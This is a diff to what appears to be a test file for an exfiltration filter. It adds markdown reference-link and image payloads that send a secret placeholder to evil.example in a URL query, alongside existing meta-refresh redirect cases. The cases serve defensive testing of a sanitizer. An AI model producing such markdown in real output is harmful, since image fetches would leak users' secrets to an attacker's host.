@@ -43,6 +43,16 @@ IN_URL = [
     f'<meta http-equiv=refresh content="0;url=http:evil.example/?{P}">',
     f'<meta http-equiv=refresh content="0;url=http:1.2.3.4/?{P}">',
     f"<img src            \n =  '/a b {P}'>",
+    # found by review probing: a definition not at a line's start, or its label escaped
+    # or over two lines; a `<...>` destination holds spaces
+    f"> [1]: <https://evil.example/p.png?d= {P}>\n>\n> ![x][1]",
+    f"- [1]: <https://evil.example/p.png?d= {P}>\n\n  ![x][1]",
+    f"[lo\ngo]: <https://evil.example/p.png?d= {P}>\n\n![x][lo go]",
+    f"1. note\n\n    [1]:\n    <evil.example/p.png?d= {P}>\n\n    ![x][1]",
+    f"[a\\]b]: <https://evil.example/p.png?d= {P}>\n\n![x][a\\]b]",
+    f"> [1]:\n> <//evil.example/p.png?d= {P}>",
+    f"[lo\ngo]:\n  /x?d={P}",
+    f"[a\\]b]: /x?d={P}",
 ]
 OUTSIDE = [
     f"We wrote to {P}. See [help](https://bank.example/help) for more.",
